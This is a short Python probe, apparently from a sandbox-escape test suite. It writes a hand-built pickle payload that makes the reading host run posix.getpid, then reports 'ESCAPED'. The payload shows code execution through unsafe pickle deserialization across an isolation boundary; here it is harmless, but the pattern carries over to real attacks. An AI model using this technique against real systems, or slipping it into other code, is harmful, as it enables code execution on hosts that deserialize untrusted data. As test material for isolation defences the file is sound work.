# tries: a pickle that runs something where it is read
# layer: host
import os
import struct


def run(ctx, params):
    body = b"\x80\x04\x8c\x05posix\x8c\x06getpid\x93)R."
    os.write(0, struct.pack(">I", len(body)) + body)
    return "ESCAPED: still connected"
